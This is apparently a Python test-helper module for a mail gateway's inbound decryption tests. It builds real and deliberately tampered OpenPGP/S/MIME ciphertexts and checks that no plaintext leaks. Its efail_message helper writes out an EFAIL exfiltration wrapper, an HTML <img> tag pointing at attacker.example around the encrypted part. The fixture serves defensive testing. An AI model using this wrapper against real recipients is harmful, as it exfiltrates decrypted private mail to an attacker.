"""Helpers for the inbound decryption tests (mail from outside to internal
recipients). Standard library only; run with Debian's /usr/bin/python3.
Builds on sgtest (GnuPG homes, the gateway, MIME helpers) and smimetest
(the test CA, openssl).

Every encrypted message is made by the real tools: `gpg --encrypt` in the
external sender's GnuPG home and `openssl cms -encrypt`. Adversarial inputs
are real ciphertexts too: made without MDC (`gpg --rfc2440`), with a
disallowed cipher (`openssl cms -des3`, `-rc2-40`, `-des`), or a real
ciphertext with one flipped byte or cut short. The tests then check what
`sealgate process` delivers:

  - decrypted: the outer fields other than Content-* kept in order, the
    Content-* fields those of the decrypted entity, its body the entity's
    body, and exactly one X-Sealgate-Decrypted and one X-Sealgate-Signature
    field, the last two of the header;
  - not decrypted: the original byte for byte, apart from forged status
    fields removed and sealgate's two fields appended;
  - in every case where decryption must not happen or fails: the plaintext
    marker nowhere -- not in the output, not on stderr, not in any file
    left in the gateway's directory (spool included).
"""

import base64
import os
import subprocess
import sys
import time

import sgtest
import smimetest
from sgtest import canon, header_values, is_content_field, norm_value, split_header_body

ALICE = "alice@example.com"          # internal recipient with OpenPGP and S/MIME keys
BOB = "bob@example.com"              # internal recipient with OpenPGP and S/MIME keys
DAVE = "dave@example.com"            # internal recipient without any key in the gateway
CAROL = "carol@partner.example"      # the external sender
NAMES = {ALICE: "Alice Example", BOB: "Bob Example", DAVE: "Dave Example",
         CAROL: "Carol Partner"}
DECRYPTED = "X-Sealgate-Decrypted"
SIGNATURE = "X-Sealgate-Signature"
P12_PASS = "p12-test-pass"

INBOUND_DEFAULTS = {"decrypt": "true", "verify": "true", "require_integrity": "false",
                    "max_decrypted_size": "100M", "subject_tags": "false",
                    "allow_3des": "false"}


def new_marker():
    """A plaintext marker: it is put only inside encrypted entities."""
    return "SGPLAIN-" + os.urandom(8).hex()


# --------------------------------------------------------------------------
# Policy and gateways


def inbound_policy(internal_domains="example.com", socket=None, **inbound):
    """Policy text with the inbound section (INBOUND_DEFAULTS overridden by
    the keyword arguments, values as YAML text)."""
    settings = dict(INBOUND_DEFAULTS)
    settings.update(inbound)
    text = ("version: 1\n"
            "gateway:\n")
    if socket:
        text += "  socket: \"%s\"\n" % socket
    text += ("  keystore: \"store\"\n"
             "  spool_dir: \"spool\"\n"
             "internal_domains: [%s]\n"
             "outbound:\n"
             "  default: { action: encrypt-if-key }\n"
             "inbound: { %s }\n"
             % (internal_domains, ", ".join("%s: %s" % kv for kv in settings.items())))
    return text


class Identities:
    """The keys of a test run, made once per test file in tmp:

    - alice and bob: GnuPG homes with their own key pair (ed25519/cv25519),
      secret keys exported to files (alice_sec, bob_sec) for the gateway;
    - sender: carol's GnuPG home holding alice's and bob's public keys, in
      which the test messages are encrypted;
    - ca: a test CA; smime[ALICE], smime[BOB]: RSA identities, and their
      PKCS#12 files (protected with P12_PASS, in passfile).
    """

    def __init__(self, tmp, smime=True):
        self.tmp = tmp
        self.homes = {}
        self.sec_files = {}
        for addr in (ALICE, BOB):
            home = sgtest.GpgHome(os.path.join(tmp, addr.split("@")[0]))
            home.gen_key(NAMES[addr], addr)
            self.homes[addr] = home
            path = os.path.join(tmp, "%s.sec.asc" % addr.split("@")[0])
            with open(path, "wb") as f:
                f.write(home.export_secret(addr))
            self.sec_files[addr] = path
        self.alice = self.homes[ALICE]
        self.bob = self.homes[BOB]
        self.sender = sgtest.GpgHome(os.path.join(tmp, "carol"))
        self.sender.gen_key(NAMES[CAROL], CAROL)
        for addr in (ALICE, BOB):
            self.sender.import_keys(self.homes[addr].export_public(addr))
        self.subkeys = {addr: self.homes[addr].encryption_keyids(addr) for addr in (ALICE, BOB)}
        self.smime = {}
        self.p12 = {}
        self.ca = None
        self.passfile = smimetest.write_file(os.path.join(tmp, "p12pass"), P12_PASS + "\n")
        if smime:
            self.ca = smimetest.TestCA(os.path.join(tmp, "ca"))
            for addr in (ALICE, BOB):
                ident = self.ca.issue(NAMES[addr], [addr])
                self.smime[addr] = ident
                self.p12[addr] = ident.pkcs12(P12_PASS)

    def gateway(self, path, policy_text, openpgp=(ALICE, BOB), smime=(ALICE, BOB)):
        """A gateway in path with policy_text (checked), the OpenPGP secret
        keys of the addresses in openpgp, and (trusting the test CA) the
        PKCS#12 files of the addresses in smime."""
        gw = sgtest.policy_gateway(path, policy_text)
        gw.check_policy()
        if openpgp:
            gw.import_keys_checked(*[self.sec_files[a] for a in openpgp])
        if smime:
            cp = gw.run("keys", "-c", gw.policy, "import", "--trust-anchor", self.ca.cert)
            if cp.returncode != 0:
                raise RuntimeError("trust anchor import failed (%d): %s%s"
                                   % (cp.returncode, cp.stdout, cp.stderr))
            cp = gw.run("keys", "-c", gw.policy, "import",
                        *[self.p12[a] for a in smime], "--passphrase-file", self.passfile)
            if cp.returncode != 0:
                raise RuntimeError("PKCS#12 import failed (%d): %s%s"
                                   % (cp.returncode, cp.stdout, cp.stderr))
        return gw

    def kill_agents(self):
        for home in list(self.homes.values()) + [self.sender]:
            home.kill()


def variant(gw, path, policy_text):
    """A copy of gw (keystore included) in path with another policy."""
    new = smimetest.clone_gateway(gw, path)
    with open(new.policy, "w") as f:
        f.write(policy_text)
    new.check_policy()
    return new


# --------------------------------------------------------------------------
# Entities (what gets encrypted) and messages (what arrives)


def text_entity(marker, charset="utf-8", cte="8bit", extra_text=""):
    """A text/plain entity (CRLF) with the marker in its body."""
    body = ("Hello Alice,\r\n\r\nthe figures: %s\r\nGr\u00fc\u00dfe, Carol\r\n%s"
            % (marker, extra_text))
    return ("Content-Type: text/plain; charset=%s\r\n"
            "Content-Transfer-Encoding: %s\r\n\r\n" % (charset, cte)).encode() + \
        body.encode("utf-8")


def alternative_entity(marker):
    """A multipart/alternative entity (text and HTML, 8bit and
    quoted-printable) with the marker in both parts, plus a
    Content-Language field; CRLF line ends."""
    return ("Content-Type: multipart/alternative;\r\n"
            " boundary=\"alt-7Qx\"\r\n"
            "Content-Language: de-DE\r\n"
            "\r\n"
            "--alt-7Qx\r\n"
            "Content-Type: text/plain; charset=UTF-8\r\n"
            "Content-Transfer-Encoding: 8bit\r\n"
            "\r\n"
            "Hallo Alice, sch\u00f6ne Gr\u00fc\u00dfe. %s\r\n"
            "--alt-7Qx\r\n"
            "Content-Type: text/html; charset=UTF-8\r\n"
            "Content-Transfer-Encoding: quoted-printable\r\n"
            "\r\n"
            "<p>Hallo Alice, sch=C3=B6ne Gr=C3=BC=C3=9Fe. %s</p>\r\n"
            "--alt-7Qx--\r\n" % (marker, marker)).encode("utf-8")


def outer_headers(to="Alice Example <%s>" % ALICE, subject="Quarterly figures",
                  extra=()):
    """Top-level fields of a message from carol, without Content-*."""
    return sgtest.std_headers(sender="Carol Partner <%s>" % CAROL, to=to,
                              subject=subject, extra=extra)


def pgp_mime_message(armored, headers=None, eol=b"\r\n"):
    """An RFC 3156 multipart/encrypted message around armored."""
    boundary = "enc-" + os.urandom(6).hex()
    h = list(headers if headers is not None else outer_headers())
    h.append(("Content-Type", 'multipart/encrypted;\r\n protocol="application/pgp-encrypted";'
                              '\r\n boundary="%s"' % boundary))
    b = boundary.encode()
    body = (b"This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\r\n"
            b"--" + b + b"\r\n"
            b"Content-Type: application/pgp-encrypted\r\n"
            b"Content-Description: PGP/MIME version identification\r\n\r\n"
            b"Version: 1\r\n\r\n"
            b"--" + b + b"\r\n"
            b"Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n"
            b"Content-Description: OpenPGP encrypted message\r\n"
            b"Content-Disposition: inline; filename=\"encrypted.asc\"\r\n\r\n"
            + canon(armored).rstrip(b"\r\n") + b"\r\n"
            b"\r\n--" + b + b"--\r\n")
    return sgtest.make_message(h, canon(body).replace(b"\r\n", eol), eol=eol)


def pgp_mime_part(armored):
    """A multipart/encrypted body part (header and body, CRLF) around armored,
    for nesting inside another multipart."""
    return pgp_mime_message(armored, headers=[])


def inline_message(armored, headers=None, charset="us-ascii", before=b"", after=b""):
    """A text/plain message whose body is the armored OpenPGP message
    (optionally with text before and after it)."""
    h = list(headers if headers is not None else outer_headers())
    h += [("Content-Type", "text/plain; charset=%s" % charset),
          ("Content-Transfer-Encoding", "7bit")]
    return sgtest.make_message(h, before + canon(armored).rstrip(b"\r\n") + b"\r\n" + after)


def smime_part(der, smime_type):
    """Content-* fields and base64 body of an application/pkcs7-mime entity."""
    b64 = base64.encodebytes(der).replace(b"\n", b"\r\n")
    return ('Content-Type: application/pkcs7-mime; smime-type=%s; name="smime.p7m"\r\n'
            "Content-Transfer-Encoding: base64\r\n"
            'Content-Disposition: attachment; filename="smime.p7m"\r\n'
            "Content-Description: S/MIME Encrypted Message\r\n\r\n"
            % smime_type).encode() + b64


def smime_message(der, smime_type="authEnveloped-data", headers=None):
    """An S/MIME message: the whole body is the CMS object (base64)."""
    h = list(headers if headers is not None else outer_headers())
    head = sgtest.make_message(h, b"")           # ends with the blank line
    part = smime_part(der, smime_type)
    return head[:-2] + part                      # the part's fields continue the header


def efail_message(encrypted_part, headers=None):
    """multipart/mixed: an HTML part that opens an <img> attribute, the
    encrypted part, an HTML part that closes it (the EFAIL direct
    exfiltration layout). encrypted_part: header and body of a MIME part."""
    boundary = "mix-" + os.urandom(6).hex()
    h = list(headers if headers is not None else outer_headers())
    h.append(("Content-Type", 'multipart/mixed; boundary="%s"' % boundary))
    b = boundary.encode()
    body = (b"--" + b + b"\r\n"
            b"Content-Type: text/html; charset=us-ascii\r\n\r\n"
            b"<img src=\"http://attacker.example/\r\n"
            b"--" + b + b"\r\n" + canon(encrypted_part).rstrip(b"\r\n") + b"\r\n"
            b"--" + b + b"\r\n"
            b"Content-Type: text/html; charset=us-ascii\r\n\r\n"
            b"\">\r\n"
            b"--" + b + b"--\r\n")
    return sgtest.make_message(h, body)


# --------------------------------------------------------------------------
# Making ciphertexts with the real tools


def gpg_encrypt(ids, data, recipients, extra=()):
    """ASCII-armored OpenPGP message made by gpg in carol's home."""
    return ids.sender.encrypt(data, recipients, armor=True, extra=extra)


def cms_encrypt(data, certs, cipher="aes-256-gcm", legacy=False):
    """DER of `openssl cms -encrypt -binary -CIPHER` to the certificates
    (PEM paths). legacy: load OpenSSL's legacy provider (RC2, DES)."""
    args = ["cms", "-encrypt", "-binary", "-outform", "DER", "-" + cipher]
    if legacy:
        args += ["-provider", "legacy", "-provider", "default"]
    args += list(certs)
    return smimetest.openssl(*args, input_bytes=data).stdout


def cms_decrypt(der, ident):
    """openssl's own verdict on der: (returncode, plaintext, stderr)."""
    return smimetest.cms_decrypt(der, ident)


def _crc24(data):
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return crc & 0xFFFFFF


def dearmor(armored):
    """The binary packets of an armored OpenPGP message."""
    lines = canon(armored).split(b"\r\n")
    start = lines.index(b"-----BEGIN PGP MESSAGE-----") + 1
    while lines[start].strip():
        start += 1                               # armor headers
    b64 = []
    for line in lines[start + 1:]:
        if line.startswith(b"=") or line.startswith(b"-----END"):
            break
        b64.append(line.strip())
    return base64.b64decode(b"".join(b64))


def armor(binary):
    """ASCII armor (with a correct CRC24) around binary packets."""
    b64 = base64.b64encode(binary)
    lines = [b64[i:i + 64] for i in range(0, len(b64), 64)]
    crc = base64.b64encode(_crc24(binary).to_bytes(3, "big"))
    return (b"-----BEGIN PGP MESSAGE-----\r\n\r\n" + b"\r\n".join(lines) + b"\r\n="
            + crc + b"\r\n-----END PGP MESSAGE-----\r\n")


def packets(binary):
    """[(tag, header offset, body offset, body length)] of the top-level
    packets (old or new format, no partial lengths)."""
    out, off = [], 0
    while off < len(binary):
        first = binary[off]
        if not first & 0x80:
            raise ValueError("not a packet at %d" % off)
        if first & 0x40:
            tag = first & 0x3F
            l1 = binary[off + 1]
            if l1 < 192:
                hlen, blen = 2, l1
            elif l1 < 224:
                hlen, blen = 3, ((l1 - 192) << 8) + binary[off + 2] + 192
            elif l1 == 255:
                hlen, blen = 6, int.from_bytes(binary[off + 2:off + 6], "big")
            else:
                raise ValueError("partial body length at %d" % off)
        else:
            tag = (first >> 2) & 0x0F
            ltype = first & 3
            if ltype == 0:
                hlen, blen = 2, binary[off + 1]
            elif ltype == 1:
                hlen, blen = 3, int.from_bytes(binary[off + 1:off + 3], "big")
            elif ltype == 2:
                hlen, blen = 5, int.from_bytes(binary[off + 1:off + 5], "big")
            else:
                raise ValueError("indeterminate length at %d" % off)
        out.append((tag, off, off + hlen, blen))
        off += hlen + blen
    return out


def flip_pgp(armored, where):
    """armored with one byte of its encrypted data packet (SED 9 / SEIPD 18)
    inverted, re-armored with a valid CRC (so that only the cryptography can
    notice). where: offset counted back from the end of the packet body."""
    binary = bytearray(dearmor(armored))
    enc = [p for p in packets(bytes(binary)) if p[0] in (9, 18, 20)]
    if len(enc) != 1:
        raise ValueError("expected one encrypted data packet, got %r" % enc)
    _tag, _hoff, boff, blen = enc[0]
    pos = boff + blen - where
    if not boff < pos < boff + blen:
        raise ValueError("offset outside the packet")
    binary[pos] ^= 0xFF
    return armor(bytes(binary))


def pkesks(armored):
    """The raw public-key encrypted session key packets of a message."""
    binary = dearmor(armored)
    return [binary[h:b + n] for tag, h, b, n in packets(binary) if tag == 1]


def spliced(extra_packets, armored):
    """armored with extra_packets put after its own session key packets, so
    that a keyring holding every key tries the real ones first."""
    binary = dearmor(armored)
    cut = [h for tag, h, _b, _n in packets(binary) if tag not in (1, 3)][0]
    return armor(binary[:cut] + b"".join(extra_packets) + binary[cut:])


def _serial(ident):
    text = smimetest.openssl("x509", "-noout", "-serial", "-in", ident.cert).stdout
    return int(text.decode().strip().split("=", 1)[1], 16)


def recipient_info_of(cms, ident):
    """Index of ident's RecipientInfo (issuerAndSerialNumber) in cms: DER
    sorts the SET, so the order is not the command line's."""
    want = _serial(ident)
    found = [i for i, ri in enumerate(cms.recipient_infos)
             if int.from_bytes(ri[1][1].value, "big") == want]
    if len(found) != 1:
        raise ValueError("no single RecipientInfo for %s" % ident.addr)
    return found[0]


def garbled(packet):
    """A session key packet with its key id kept and its encrypted session
    key changed."""
    b = bytearray(packet)
    for i in range(len(b) - 8, len(b) - 2):
        b[i] ^= 0x5A
    return bytes(b)


def flip(data, pos):
    """data with the byte at pos (negative: from the end) inverted."""
    b = bytearray(data)
    b[pos] ^= 0xFF
    return bytes(b)


def truncate_armor(armored):
    """The armor cut in the middle of its base64 lines: no checksum, no END
    line."""
    lines = canon(armored).split(b"\r\n")
    start = lines.index(b"-----BEGIN PGP MESSAGE-----")
    end = [i for i, l in enumerate(lines) if l.startswith(b"-----END")][0]
    body_start = start + 1
    while lines[body_start].strip():
        body_start += 1
    cut = body_start + 1 + (end - body_start - 1) // 2
    return b"\r\n".join(lines[:cut]) + b"\r\n"


# --------------------------------------------------------------------------
# Running sealgate on inbound mail


def process(gw, msg, rcpts, sender=CAROL):
    """`sealgate process` for mail from outside (an untrusted client):
    (returncode, output bytes or None, stderr text)."""
    return gw.process(msg, sender, rcpts, client_ip=sgtest.OUTSIDE_IP)


def run_measured(argv, timeout=120):
    """Run argv with stdout/stderr to files; returns (returncode, stdout,
    stderr, peak RSS in KiB of it and its waited-for children, seconds)."""
    import tempfile
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        start = time.monotonic()
        proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=out, stderr=err)
        deadline = start + timeout
        while True:
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid == proc.pid:
                break
            if time.monotonic() > deadline:
                proc.kill()
                pid, status, usage = os.wait4(proc.pid, 0)
                break
            time.sleep(0.05)
        elapsed = time.monotonic() - start
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return (proc.returncode, out.read(), err.read().decode("utf-8", "replace"),
                usage.ru_maxrss, elapsed)


# Runs argv[2:] from a fresh, small interpreter and writes the peak RSS
# (KiB) of that process and the children it waited for to argv[1]: a
# child forked (or vforked) from a test process that holds a large
# message would count that process's memory (Linux keeps the high-water
# mark across exec).
_PEAK_RSS_RUNNER = """
import os, sys
pid = os.fork()
if pid == 0:
    os.execv(sys.argv[2], sys.argv[2:])
_pid, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as f:
    f.write(str(usage.ru_maxrss))
sys.exit(os.waitstatus_to_exitcode(status))
"""


def process_peak_rss(gw, msg, rcpts, sender=CAROL, timeout=600):
    """process() for large messages, with the message read from a file:
    (returncode, output bytes or None, stderr text, peak RSS of sealgate
    in KiB)."""
    import tempfile
    inp = os.path.join(gw.dir, "large-in.eml")
    outp = os.path.join(gw.dir, "large-out.eml")
    rssf = os.path.join(gw.dir, "large.rss")
    with open(inp, "wb") as f:
        f.write(msg)
    argv = [sys.executable, "-c", _PEAK_RSS_RUNNER, rssf, gw.bin, "process", "-c", gw.policy,
            "--from", sender, "--client-ip", sgtest.OUTSIDE_IP, "-i", inp, "-o", outp]
    for r in rcpts:
        argv += ["--to", r]
    try:
        with tempfile.TemporaryFile() as err:
            rc = subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                stderr=err, timeout=timeout, check=False).returncode
            err.seek(0)
            err_text = err.read().decode("utf-8", "replace")
        with open(rssf) as f:
            rss = int(f.read())
        out = None
        if os.path.exists(outp):
            with open(outp, "rb") as f:
                out = f.read() or None
    finally:
        for path in (inp, outp, rssf):
            if os.path.exists(path):
                os.unlink(path)
    return rc, out, err_text, rss


# --------------------------------------------------------------------------
# Checking what sealgate delivered


_STATUS_NAMES = {DECRYPTED.lower(), SIGNATURE.lower()}


def without_status_fields(msg):
    """msg with every top-level X-Sealgate-Decrypted / X-Sealgate-Signature
    field removed (any letter case, with continuation lines); the rest byte
    for byte."""
    lines = msg.splitlines(keepends=True)
    out, i = [], 0
    while i < len(lines):
        line = lines[i]
        if line in (b"\r\n", b"\n", b"\r"):
            out += lines[i:]
            break
        name = line.split(b":", 1)[0].decode("latin-1").strip().lower()
        if line[:1] not in (b" ", b"\t") and name in _STATUS_NAMES:
            i += 1
            while i < len(lines) and lines[i][:1] in (b" ", b"\t"):
                i += 1
            continue
        out.append(line)
        i += 1
    return b"".join(out)


def expected_passthrough(original, status, signature="none"):
    """What sealgate must deliver when it does not decrypt: the original,
    forged status fields removed, its two fields appended."""
    return sgtest.with_fields_appended(without_status_fields(original),
                                       ((DECRYPTED, status), (SIGNATURE, signature)))


def status_fields(out):
    """(values of X-Sealgate-Decrypted, of X-Sealgate-Signature, names of the
    last two header fields) of out."""
    fields, _ = split_header_body(out)
    return (header_values(fields, DECRYPTED), header_values(fields, SIGNATURE),
            [n for n, _v in fields[-2:]])


def files_under(root):
    out = []
    for dirpath, _dirs, names in os.walk(root):
        for n in names:
            out.append(os.path.join(dirpath, n))
    return out


def file_contains(path, needle):
    try:
        with open(path, "rb") as f:
            return needle in f.read()
    except OSError:
        return False


def decoded_leaves_text(entity):
    """The decoded bodies of the leaves of an entity, joined (bytes)."""
    import signtest
    out = b""
    for fields, body in signtest.leaves(canon(entity)):
        try:
            out += signtest.decode_body(fields, body) + b"\n"
        except Exception:          # undecodable parts still count as raw bytes
            out += body + b"\n"
    return out


def assert_entity_in_place(tc, original, out, entity, what):
    """out has original's top-level fields other than Content-* (same
    order; incoming status fields removed, two status fields last), then
    the Content-* fields of entity (the what entity: "decrypted", "signed")
    and its body."""
    of, _ob = split_header_body(canon(without_status_fields(original)))
    nf, nb = split_header_body(canon(out))
    keep = [(n.lower(), v) for n, v in of if not is_content_field(n)]
    got = [(n.lower(), v) for n, v in nf[:-2] if not is_content_field(n)]
    tc.assertEqual(got, keep, "outer fields other than Content-* changed")
    ef, eb = split_header_body(canon(entity))
    want_c = sorted((n.lower(), norm_value(v)) for n, v in ef if is_content_field(n))
    got_c = sorted((n.lower(), norm_value(v)) for n, v in nf if is_content_field(n))
    tc.assertEqual(got_c, want_c, "Content-* fields are not the %s entity's" % what)
    tc.assertTrue(nb == eb, "body is not the %s entity's body:\n%r\n---\n%r"
                  % (what, nb[:1500], eb[:1500]))


class InboundCase:
    """Mix-in for unittest.TestCase with the inbound checks."""

    def assert_no_marker(self, marker, out, err, gw):
        """The plaintext marker is not in the output (raw or decoded), not on
        stderr, not in any file under the gateway's directory, and the
        spool directory is empty."""
        m = marker.encode()
        if out is not None:
            self.assertNotIn(m, out, "plaintext marker in the delivered message")
            self.assertNotIn(m, decoded_leaves_text(out),
                             "plaintext marker in a decoded part of the delivered message")
        self.assertNotIn(marker, err, "plaintext marker on stderr")
        leaked = [p for p in files_under(gw.dir) if file_contains(p, m)]
        self.assertEqual(leaked, [], "plaintext marker in files left behind")
        self.assertEqual(gw.spool_entries(), [], "files left in the spool directory")

    def check_passthrough(self, out, msg, status, signature="none", canonical=False):
        """out is msg delivered unchanged: forged status fields removed, one
        X-Sealgate-Decrypted (status) and one X-Sealgate-Signature field
        (signature; None: any value) as the last two of the header.
        canonical: compare modulo line endings (mail that went over SMTP)."""
        self.assertIsNotNone(out, "no message written")
        dec, sig, last = status_fields(out)
        self.assertEqual(dec, [status], "X-Sealgate-Decrypted fields")
        self.assert_signature_field(sig, signature)
        self.assertEqual([n.lower() for n in last], [DECRYPTED.lower(), SIGNATURE.lower()],
                         "the status fields are not the last two of the header")
        expected = expected_passthrough(msg, status, sig[0])
        if canonical:
            out, expected = canon(out), canon(expected)
        self.assertTrue(out == expected,
                        "the original was not delivered unchanged:\n--- got ---\n%r\n"
                        "--- expected ---\n%r" % (out[:3000], expected[:3000]))

    def assert_passthrough(self, gw, msg, rcpts, status, marker=None, sender=CAROL,
                           signature="none"):
        """sealgate accepts msg and delivers the original (check_passthrough);
        with a marker, the plaintext appears nowhere. Returns (output,
        stderr)."""
        rc, out, err = process(gw, msg, rcpts, sender=sender)
        self.assertEqual(rc, 0, err)
        self.assertEqual(sgtest.verdict(err), "accept", err)
        self.assertIsNotNone(out, "no message written")
        self.assertEqual(status_fields(out)[0], [status],
                         "X-Sealgate-Decrypted fields (stderr: %s)" % err)
        self.check_passthrough(out, msg, status, signature)
        if marker is not None:
            self.assert_no_marker(marker, out, err, gw)
        else:
            self.assertEqual(gw.spool_entries(), [])
        return out, err

    def assert_signature_field(self, values, signature):
        """Exactly one X-Sealgate-Signature field; its value is signature
        unless that is None."""
        self.assertEqual(len(values), 1, "X-Sealgate-Signature fields: %r" % values)
        if signature is not None:
            self.assertEqual(values, [signature])

    def check_decrypted(self, out, msg, entity, status, signature="none"):
        """out is msg decrypted to entity: outer fields other than Content-*
        (forged status fields aside) kept in order, the Content-* fields
        exactly the entity's (values compared modulo folding), the body the
        entity's body (modulo line endings), one X-Sealgate-Decrypted
        (status) and one X-Sealgate-Signature field as the last two."""
        self.assertIsNotNone(out, "no message written")
        dec, sig, last = status_fields(out)
        self.assertEqual(dec, [status], "X-Sealgate-Decrypted fields")
        self.assert_signature_field(sig, signature)
        self.assertEqual([n.lower() for n in last], [DECRYPTED.lower(), SIGNATURE.lower()],
                         "the status fields are not the last two of the header")
        assert_entity_in_place(self, msg, out, entity, "decrypted")

    def assert_decrypted(self, gw, msg, rcpts, entity, status, sender=CAROL,
                         signature="none"):
        """sealgate decrypts msg (check_decrypted) and leaves the spool
        empty. Returns (output, stderr)."""
        rc, out, err = process(gw, msg, rcpts, sender=sender)
        self.assertEqual(rc, 0, err)
        self.assertEqual(sgtest.verdict(err), "accept", err)
        self.assertIsNotNone(out, "no message written")
        self.assertEqual(status_fields(out)[0], [status],
                         "X-Sealgate-Decrypted (stderr: %s)" % err)
        self.check_decrypted(out, msg, entity, status, signature)
        self.assertEqual(gw.spool_entries(), [], "files left in the spool directory")
        return out, err
